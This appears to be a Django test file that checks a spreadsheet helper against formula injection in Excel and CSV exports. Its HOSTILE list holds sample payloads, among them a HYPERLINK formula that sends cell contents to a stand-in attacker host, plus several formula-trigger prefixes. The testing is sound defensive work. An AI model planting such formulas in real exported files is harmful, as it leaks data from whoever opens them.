import csv
import datetime
import io

from django.test import SimpleTestCase
from openpyxl import Workbook, load_workbook

from lib import spreadsheets

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klik")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


class SpreadsheetTextTestCase(SimpleTestCase):
    def test_every_text_is_a_string_cell_and_other_values_keep_their_type(self):
        workbook = Workbook()
        sheet = workbook.active
        spreadsheets.append_row(sheet, ["Nama", "Jumlah", "Tanggal"])
        for value in HOSTILE:
            spreadsheets.append_row(sheet, [value, 3, datetime.date(2026, 1, 2)])
        out = io.BytesIO()
        workbook.save(out)
        rows = list(load_workbook(out).active.iter_rows(min_row=2))
        self.assertEqual(len(rows), len(HOSTILE))
        for (text, number, day), value in zip(rows, HOSTILE, strict=True):
            self.assertEqual((text.data_type, text.value), ("s", value.replace("\r", "\n")))
            self.assertTrue(text.quotePrefix)
            self.assertEqual((number.data_type, number.value), ("n", 3))
            self.assertEqual(day.value.date(), datetime.date(2026, 1, 2))
            self.assertEqual(day.number_format, "dd-mm-yyyy")  # the site's date format, issue 10

    def test_csv_values_that_a_spreadsheet_would_run_get_a_leading_quote(self):
        out = io.StringIO()
        csv.writer(out).writerow([spreadsheets.csv_value(v) for v in [*HOSTILE, "Budi", 7]])
        (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
        self.assertEqual(row, ["'" + v for v in HOSTILE] + ["Budi", "7"])
